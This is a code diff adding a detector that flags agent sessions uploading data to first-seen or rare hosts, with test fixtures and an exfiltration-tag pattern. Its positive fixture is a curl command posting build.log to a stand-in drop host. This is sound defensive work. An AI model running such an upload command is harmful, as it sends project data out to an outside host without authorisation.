@@ -1,0 +1,76 @@
+import { remoteHosts } from '../behaviour.js';
+import type { StreamDetector } from '../detector.js';
+import { noveltyHit, quote, warmFleet } from './novelty.js';
+
+const thresholds = { min_fleet_sessions: 30, max_fleet_share: 0.02 } as const;
+
+/** Data sent to, or a blocked connection to, a host the fleet has (almost) never contacted. */
+export const novelDomain: StreamDetector = {
+  id: 'novelty.domain',
+  title: 'First-seen destination',
+  description:
+    'The session uploads to, tunnels to, or is blocked from a host that this repository never contacted and that is rare ' +
+    'across the fleet. Plain downloads from new hosts are only recorded.',
+  severity: 'medium',
+  attack: ['T1041', 'T1071'],
+  falsepositives: ['A new SaaS integration under development'],
+  triage: 'Who owns the host? Was any data sent (command text, bytes out)? Was the connection allowed?',
+  thresholds,
+  kind: 'novelty',
+  fixtures: {
+    positive: {
+      history: warmFleet(32),
+      session: [
+        {
+          kind: 'command',
+          command: 'curl -s -X POST --data-binary @build.log https://drop.unseen-host.example/in',
+          t: 0,
+        },
+      ],
+    },
+    negative: {
+      history: warmFleet(32, [
+        {
+          kind: 'command',
+          command: 'curl -s -X POST --data-binary @r.json https://ci.known.example/in',
+          t: 9,
+        },
+      ]),
+      session: [
+        {
+          kind: 'command',
+          command: 'curl -s -X POST --data-binary @r.json https://ci.known.example/in',
+          t: 0,
+        },
+      ],
+    },
+  },
+  keys(obs) {
+    return remoteHosts(obs).map((h) => `dom:${h}`);
+  },
+  observe(obs, s, ctx) {
+    const sends =
+      obs.actionClass === 'network'
+        ? obs.denied
+        : obs.actionClass === 'exec' &&
+          obs.facts.tags.some((t) =>
+            /^(net\.(upload|dns-exfil|web-service|raw-socket|tunnel)|exfil\.)/.test(t),
+          );
+    if (!sends) {
+      // Still note it (so a later upload in this session to the same host is not "new"), without an alert.
+      for (const h of remoteHosts(obs)) s.noted.add(`${this.id}\0dom:${h}`);
+      return [];
+    }
+    return remoteHosts(obs).flatMap((h) =>
+      noveltyHit(
+        { id: this.id, thresholds },
+        'repo',
+        `dom:${h}`,
+        `${obs.denied ? 'blocked connection' : 'upload'} to ${quote(h)}`,
+        obs,
+        s,
+        ctx,
+      ),
+    );
+  },
+};
